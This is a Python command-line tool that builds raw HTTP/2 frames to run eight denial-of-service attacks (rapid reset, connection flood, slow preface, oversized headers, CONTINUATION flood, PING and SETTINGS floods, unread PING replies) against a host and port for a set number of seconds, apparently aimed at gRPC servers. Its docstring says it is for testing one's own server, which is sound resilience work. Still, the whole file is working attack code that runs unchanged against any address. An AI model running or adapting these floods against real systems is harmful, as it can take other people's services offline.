#!/usr/bin/python3
"""Hostile HTTP/2 clients, frame by frame. Each runs for a number of seconds and says what it did.

    h2_attacks.py HOST:PORT ATTACK SECONDS      against a server of your own, to see what happens
"""

import select
import socket
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4

CALL = ((":method", "POST"), (":scheme", "http"),
        (":path", "/tetstream.v1.MeshService/GetCapabilities"), (":authority", "attacked"),
        ("content-type", "application/grpc"), ("te", "trailers"))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(headers):
    """HPACK, every header a literal that is not indexed."""
    return b"".join(b"\x00" + bytes([len(name)]) + name.encode() + hpack_text(value)
                    for name, value in headers)


def hpack_text(value):
    size, prefix = len(value), b""
    if size < 127:
        prefix = bytes([size])
    else:
        prefix, size = b"\x7f", size - 127
        while size >= 128:
            prefix, size = prefix + bytes([size % 128 + 128]), size // 128
        prefix += bytes([size])
    return prefix + value.encode()


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


class Attacker:
    """Connections from an address of its own, opened again when they are closed."""

    def __init__(self, address, seconds, source="127.0.0.2"):
        host, port = address.rsplit(":", 1)
        self.target, self.source = (host, int(port)), source
        self.end = time.monotonic() + seconds
        self.sent = self.connections = self.refused = 0

    def running(self):
        return time.monotonic() < self.end

    def connect(self):
        """A socket, or None where no connection is to be had."""
        try:
            connection = socket.create_connection(self.target, 1, (self.source, 0))
        except OSError:
            self.refused += 1
            time.sleep(0.001)
            return None
        self.connections += 1
        connection.setblocking(False)
        return connection

    def push(self, connection, data):
        """Sends all of it and drops what comes back; False once the other end has hung up."""
        view = memoryview(data)
        try:
            while view and self.running():
                readable, writable, _ = select.select([connection], [connection], [], 0.1)
                if readable and not connection.recv(1 << 16):
                    return False
                if writable:
                    view = view[connection.send(view):]
        except OSError:
            return False
        self.sent += len(data)
        return True

    def repeat(self, first, chunk_of):
        """Sends `first`, then chunk_of(0), chunk_of(1), ... on one connection after the other."""
        while self.running():
            connection = self.connect()
            if connection is None:
                continue
            with connection:
                alive, turn = self.push(connection, first), 0
                while alive and self.running():
                    alive, turn = self.push(connection, chunk_of(turn)), turn + 1

    def hold(self, limit, trickle):
        """Opens up to `limit` connections and goes on sending `trickle` of each, byte by byte."""
        held = []
        while self.running():
            if len(held) < limit and (connection := self.connect()):
                held.append((connection, iter(trickle)))
            if len(held) == limit or self.refused:
                held = [(c, rest) for c, rest in held if self.drip(c, rest)]
                time.sleep(0.05)
        for connection, _ in held:
            connection.close()

    def drip(self, connection, rest):
        byte = next(rest, None)
        if byte is None or self.push(connection, bytes([byte])):
            return True
        connection.close()
        return False


def rapid_reset(attacker):
    block = header_block(CALL)

    def hundred(turn):
        streams = range(200 * turn + 1, 200 * turn + 201, 2)
        return b"".join(frame(HEADERS, END_HEADERS, stream, block)
                        + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)) for stream in streams)

    attacker.repeat(PREFACE, hundred)


def connection_flood(attacker):
    attacker.hold(2000, b"")


def slow_preface(attacker):
    attacker.hold(60, PREFACE)


def huge_headers(attacker):
    block = header_block((*CALL, *((f"x-{i}", "a" * 8000) for i in range(30))))

    def call(turn):
        stream, parts = 2 * turn + 1, [block[i:i + 16000] for i in range(0, len(block), 16000)]
        return (frame(HEADERS, END_STREAM, stream, parts[0])
                + b"".join(frame(CONTINUATION, 0, stream, part) for part in parts[1:-1])
                + frame(CONTINUATION, END_HEADERS, stream, parts[-1]))

    attacker.repeat(PREFACE, call)


def continuation_flood(attacker):
    first = PREFACE + frame(HEADERS, 0, 1, header_block(CALL))
    more = frame(CONTINUATION, 0, 1, header_block((("x-more", "a" * 100),))) * 100
    attacker.repeat(first, lambda turn: more)


def ping_flood(attacker):
    pings = frame(PING, 0, 0, b"12345678") * 500
    attacker.repeat(PREFACE, lambda turn: pings)


def settings_flood(attacker):
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 500
    attacker.repeat(PREFACE, lambda turn: settings)


def unread_pings(attacker):
    """Answers that nobody reads: whoever queues them without a bound grows."""
    pings = frame(PING, 0, 0, b"12345678") * 500
    connections = [c for c in (attacker.connect() for _ in range(20)) if c]
    for connection in connections:
        attacker.push(connection, PREFACE)
    while attacker.running():
        for connection in connections:
            try:
                attacker.sent += connection.send(pings)
            except OSError:
                pass
        time.sleep(0.001)
    for connection in connections:
        connection.close()


ATTACKS = {attack.__name__: attack for attack in (
    rapid_reset, connection_flood, slow_preface, huge_headers, continuation_flood, ping_flood,
    settings_flood, unread_pings)}


def main():
    address, name, seconds = sys.argv[1:]
    attacker = Attacker(address, float(seconds))
    ATTACKS[name](attacker)
    print(f"{name}: {attacker.connections} connections, {attacker.refused} refused, "
          f"{attacker.sent} bytes sent")


if __name__ == "__main__":
    main()
